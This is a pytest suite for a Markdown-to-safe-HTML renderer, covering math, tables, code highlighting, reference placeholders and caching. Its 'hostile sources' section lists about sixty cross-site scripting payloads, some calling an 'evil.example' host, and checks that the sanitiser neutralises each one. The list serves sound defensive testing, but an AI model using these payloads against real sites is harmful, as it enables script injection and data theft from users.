"""Markdown to safe HTML: what authors need survives, nothing that could run does."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb import markup
from kb.markup import MAX_SOURCE, Resolver, inline_references, render


def test_inline_formulas_reach_the_page_untouched():
    html = render(r"So $W_0 + \frac{\alpha}{r}BA$ and $a_1 * b_1 * c$ stay.")
    assert r'<span class="arithmatex">\(W_0 + \frac{\alpha}{r}BA\)</span>' in html
    assert r'<span class="arithmatex">\(a_1 * b_1 * c\)</span>' in html


def test_display_formulas_keep_their_line_breaks_and_ampersands():
    html = render("$$\n\\begin{aligned} a &= b \\\\ c &< d \\end{aligned}\n$$")
    assert '<div class="arithmatex">' in html
    assert "a &amp;= b \\\\ c &amp;&lt; d" in html


def test_an_escaped_dollar_is_money():
    assert render(r"\$5 and \$6") == "<p>$5 and $6</p>"


def test_tables_align_by_class_because_styles_are_forbidden():
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<td class="align-right">2</td>' in html
    assert "style" not in html


@pytest.mark.parametrize("source", ["**加粗：**后面", "前面**“秩”**后面", "中文**粗**中文"])
def test_bold_works_between_chinese_characters(source):
    html = render(source)
    assert "<strong>" in html
    assert "**" not in html


def test_code_is_highlighted_by_class():
    html = render("```python\nimport torch\n```")
    assert '<span class="kn">import</span>' in html
    assert 'class="code"' in html


def test_code_without_a_language_stays_plain():
    assert "<code>r &lt; d\n</code>" in render("```\nr < d\n```").replace("<span></span>", "")


@pytest.mark.parametrize("source", ["`[[claim:x]]`", "```\n[[claim:x]]\n```", "    [[claim:x]]"])
def test_a_reference_in_code_stays_literal(source):
    html = render(source)
    assert "[[claim:x]]" in html
    assert "data-inline" not in html


def test_references_and_citations_become_empty_placeholders():
    assert render("[[claim:a-1]] [@hu2021]") == (
        '<p><span data-inline="claim" data-slug="a-1"></span> '
        '<span data-inline="reference" data-slug="hu2021"></span></p>'
    )


def test_a_plain_figure_shows_only_the_figure():
    assert render("About [[plain:16 bits|by definition]] each.") == "<p>About 16 bits each.</p>"


def test_a_plain_figure_cannot_smuggle_html():
    assert render("[[plain:<b onclick=x()>8</b>|why]]") == "<p>&lt;b onclick=x()&gt;8&lt;/b&gt;</p>"


@pytest.mark.parametrize("source", ["[[Claim:x]]", "[[claim:X]]", "[[claim:a b]]", "[[claim:]]", "[@]", "[[claim x]]"])
def test_what_only_looks_like_a_reference_is_text(source):
    assert "data-inline" not in render(source)
    assert inline_references(source) == []


def test_inline_references_finds_both_forms():
    assert inline_references("[[point:a]] x [@b] [[claim:c]]") == [("point", "a"), ("claim", "c"), ("reference", "b")]


# --- hostile sources --------------------------------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src=javascript:alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='da\nta:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='DATA:text/html,x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="alert(1))',
    '[x](https://a.example "t\\" onclick=alert(1) x=\\"")',
    "<div style='position:fixed;inset:0'>x</div>",
    "<td style='text-align:center;background:url(//evil.example)'>x</td>",
    "<p onclick=alert(1) style=color:red class=admin id=main>x</p>",
    "<span class='chip chip-reproduced'>forged</span>",
    "<a href=/x target=_blank hx-get=/logout data-hx-post=/x hx-on:click=alert(1)>x</a>",
    "$<script>alert(1)</script>$",
    "$\\href{javascript:alert(1)}{x}$ <img src=x onerror=alert(1)>",
    "$$</div><script>alert(1)</script>$$",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onclick=alert(1)\n<b>\n```",
    "```{.python onclick=alert(1) style=color:red}\nx\n```",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<x onclick=alert(1)>x</x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '[[claim:x"onclick=alert(1)]] [[plain:<script>alert(1)</script>|x]]',
    "<span data-inline='claim' data-slug='x\"><script>alert(1)</script>'></span>",
]

ALLOWED_ATTRIBUTES = {"href", "title", "src", "alt", "start", "class", "data-inline", "data-slug", "rel"}
OWN_CLASSES = re.compile(r"arithmatex|code|highlight|language-[a-z0-9]+|align-(left|right|center)|[a-z][a-z0-9]{0,2}")


class Page(HTMLParser):
    """Everything in a page that a browser could act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    page = Page(html)
    assert page.tags <= markup._TAGS
    for name, value in page.attributes:
        assert name in ALLOWED_ATTRIBUTES
        if name == "href":
            assert re.match(r"https?://|mailto:|[/#?]", value), value
        if name == "src":
            assert value.startswith(("/static/", "data:image/png;", "data:image/svg+xml;")), value
        if name == "class":
            assert all(OWN_CLASSES.fullmatch(part) for part in value.split()), value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_source_becomes_harmless(payload):
    assert_harmless(render(payload))
    assert_harmless(render(f"Text before {payload} and after."))
    assert_harmless(render(f"| a |\n|---|\n| {payload} |"))


@given(st.text(alphabet="<>\"'=/ abonclicksrpt:[]()`$\\\n*_{}&;!#|-@", max_size=60))
def test_no_text_at_all_becomes_harmful(source):
    assert_harmless(render(source))


def test_honest_links_survive():
    assert '<a href="https://arxiv.org/abs/2106.09685" rel="noopener noreferrer">x</a>' in render(
        "[x](https://arxiv.org/abs/2106.09685)"
    )
    assert 'href="/topics/"' in render("[x](/topics/)")


# --- caching ----------------------------------------------------------------------------------------------------------


def test_the_second_render_does_not_parse(monkeypatch):
    first = render("Some *text*.")
    monkeypatch.setattr(markup, "_markdown", lambda: pytest.fail("parsed again"))
    assert render("Some *text*.") == first


def test_another_renderer_version_renders_anew(monkeypatch):
    render("Some *text*.")
    monkeypatch.setattr(markup, "RENDERER_VERSION", markup.RENDERER_VERSION + 1)
    monkeypatch.setattr(markup, "_sanitise", lambda _: "anew")
    assert render("Some *text*.") == "anew"


def test_an_over_long_source_is_refused():
    with pytest.raises(ValueError, match=f"Text of {MAX_SOURCE + 1} characters; allowed: {MAX_SOURCE}"):
        render("a" * (MAX_SOURCE + 1))


# --- placeholders -----------------------------------------------------------------------------------------------------


@pytest.fixture
def asked(monkeypatch) -> list[set[str]]:
    """A kind `film` whose resolver remembers what it was asked for."""
    calls: list[set[str]] = []

    def films(slugs, language):
        calls.append(set(slugs))
        return {slug: f"<i>{slug} {language}</i>" for slug in slugs if slug != "unknown"}

    monkeypatch.setitem(markup._resolvers, "film", films)
    return calls


@pytest.mark.django_db
def test_a_resolver_is_asked_once_for_all_texts(asked):
    texts = ["[[film:a]] [[film:b]]", "[[film:b]] [[film:c]]"]
    resolver = Resolver("en")
    resolver.prepare(texts)
    assert resolver.html(texts[0]) == "<p><i>a en</i> <i>b en</i></p>"
    assert resolver.html(texts[1]) == "<p><i>b en</i> <i>c en</i></p>"
    assert asked == [{"a", "b", "c"}]


def test_an_unknown_slug_is_shown_as_such_and_asked_once(asked):
    resolver = Resolver("zh")
    shown = '<p><span class="unknown">[[film:unknown]]</span></p>'
    assert [resolver.html("[[film:unknown]]") for _ in range(2)] == [shown, shown]
    assert asked == [{"unknown"}]


def test_an_unknown_kind_is_shown_as_such():
    assert Resolver("en").html("[[ghost:x]]") == '<p><span class="unknown">[[ghost:x]]</span></p>'


def test_what_a_resolver_returns_is_not_cached_with_the_text(asked):
    assert "a en" in Resolver("en").html("[[film:a]]")
    assert "a zh" in Resolver("zh").html("[[film:a]]")
